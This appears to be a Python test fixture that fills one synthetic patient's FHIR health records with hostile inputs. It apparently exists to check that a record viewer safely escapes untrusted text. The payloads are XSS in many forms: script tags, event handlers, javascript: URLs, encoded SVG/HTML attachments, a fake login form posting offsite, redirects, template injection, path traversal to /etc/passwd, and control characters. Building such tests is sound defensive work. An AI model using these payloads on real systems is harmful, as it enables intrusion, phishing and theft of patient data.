# SPDX-License-Identifier: Apache-2.0
"""A patient whose every text is an attack."""

import base64
import json
import re

from browser import about

SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
       '<image href="https://elsewhere.invalid/i"/><a href="javascript:alert(1)"><text>x</text></a></svg>')
PAGE = '<html><body onload="alert(1)"><script src="https://elsewhere.invalid/s.js"></script></body></html>'
# %d: each stands at many places, and can be told from the others.
ATTACKS = [
    '<script>alert(%d)</script>',
    '"><script>alert(%d)</script>',
    "'><img src=x onerror=alert(%d)>",
    '<img src="https://elsewhere.invalid/%d.png">',
    '<svg/onload=alert(%d)>',
    '<iframe src="javascript:alert(%d)"></iframe>',
    '<a href="javascript:alert(%d)">open</a>',
    '</title></style></textarea><script>alert(%d)</script>',
    '--><script>alert(%d)</script><!--',
    '<style>@import "https://elsewhere.invalid/%d.css";*{background:url(https://elsewhere.invalid/b)}</style>',
    '<form action="https://elsewhere.invalid/%d"><input name=password autofocus><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/%d">',
    '<base href="https://elsewhere.invalid/%d/">',
    '" autofocus onfocus="alert(%d)" x="',
    "' style='background:url(https://elsewhere.invalid/%d)",
    'javascript:alert(%d)',
    '{{%d*7}}${alert(1)}<%%= 7 %%>',
    '&lt;script&gt;alert(%d)&lt;/script&gt;',
    '\u202eevil %d\u202c \u2066hidden\u2069 \u0007\u001b[31m\u0000',
    'A%d' + 'W' * 3000,
]
NARRATIVE = ('<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)" style="position:fixed;inset:0">'
             '<p>read <b>this</b></p><script>alert(1)</script><img src="https://elsewhere.invalid/n.png" alt="x"/>'
             '<a href="javascript:alert(1)">link</a><a href="https://elsewhere.invalid/">away</a>'
             '<object data="https://elsewhere.invalid/"></object><iframe src="https://elsewhere.invalid/"></iframe>'
             '<form action="https://elsewhere.invalid/"><input/></form><style>body{display:none}</style>'
             '<svg><script>alert(1)</script></svg><math><mtext>m</mtext></math></div>')
# What gives a record its place; all else becomes an attack.
KEPT = {"resourceType", "id", "reference", "status", "system", "gender", "versionId", "lastUpdated", "active", "code",
        "type", "intent", "category", "use"}
DATE = re.compile(r"\d{4}(-\d\d(-\d\d(T.*)?)?)?")


class Poison:
    def __init__(self):
        self.used = 0

    def text(self):
        self.used += 1
        attack = ATTACKS[self.used % len(ATTACKS)]
        return attack % self.used

    def fill(self, value, key=None):
        if isinstance(value, dict):
            if "resourceType" not in value and {"contentType", "data"} & set(value):
                return self.attachment()
            return {k: {"status": "generated", "div": NARRATIVE} if k == "text" and isinstance(v, dict) else self.fill(v, k)
                    for k, v in value.items() if k != "meta"}
        if isinstance(value, list):
            return [self.fill(each, key) for each in value]
        if not isinstance(value, str) or key in KEPT or DATE.fullmatch(value):
            return value
        return self.text()

    def attachment(self):
        kind, content = [("text/html", PAGE), ("image/svg+xml", SVG), ("text/plain", PAGE), ("image/png", SVG),
                         ("application/pdf", PAGE), ("text/html;x=\"><script>alert(1)</script>", PAGE)][self.used % 6]
        self.used += 1
        return {"contentType": kind, "title": self.text(), "data": base64.b64encode(content.encode()).decode(),
                "url": ["javascript:alert(1)", "https://elsewhere.invalid/a", "//elsewhere.invalid/", "data:text/html," + PAGE,
                        "../../etc/passwd"][self.used % 5]}


def of(patient, records):
    own = "Patient/" + patient["id"]
    return [r for rows in records.values() for r in rows if own in json.dumps(r)]


def make(records):
    """(The records of one of the generator's patients with attacks for texts, the patient as scripts look for it.)"""
    chosen = max(records["Patient"], key=lambda p: len(of(p, records)))
    poison = Poison()
    hostile = [poison.fill(record) for record in of(chosen, records)]
    bsn = about(chosen)["bsn"]
    whole = {"resourceType": "Patient", "id": chosen["id"], "gender": "other\"><script>alert(1)</script>",
             "birthDate": chosen["birthDate"], "identifier": [
                 {"system": "http://fhir.nl/fhir/NamingSystem/bsn", "value": bsn},
                 {"system": "<script>alert(1)</script>", "value": "<img src=x onerror=alert(1)>"}],
             "text": {"status": "generated", "div": NARRATIVE},
             "name": [{"family": "</title><script>alert('name')</script>", "given": ["<img src=x onerror=alert(1)>"],
                       "prefix": ["\" onmouseover=\"alert(1)"]}],
             "telecom": [{"system": "url", "value": "javascript:alert(1)"}, {"system": "email", "value": ATTACKS[1] % 0}],
             "photo": [poison.attachment() for _ in range(6)],
             "address": [{"text": ATTACKS[2] % 0, "city": ATTACKS[4] % 0, "line": [ATTACKS[19] % 0]}]}
    hostile.append({"resourceType": "DocumentReference", "id": "letters", "status": "current",
                    "subject": {"reference": "Patient/" + chosen["id"]}, "description": ATTACKS[0] % 0,
                    "content": [{"attachment": poison.attachment()} for _ in range(12)]})
    hostile.append({"resourceType": "Composition", "id": "narrative", "status": "final", "title": ATTACKS[6] % 0,
                    "subject": {"reference": "Patient/" + chosen["id"]}, "date": "2026-01-01",
                    "text": {"status": "generated", "div": NARRATIVE},
                    "section": [{"title": ATTACKS[0] % 1, "text": {"status": "generated", "div": NARRATIVE}}]})
    rows = [whole, *(r for r in hostile if r["resourceType"] != "Patient")]
    assert poison.used > 500
    return rows, {"row": bsn, "query": bsn, "family": whole["name"][0]["family"], "given": whole["name"][0]["given"][0]}
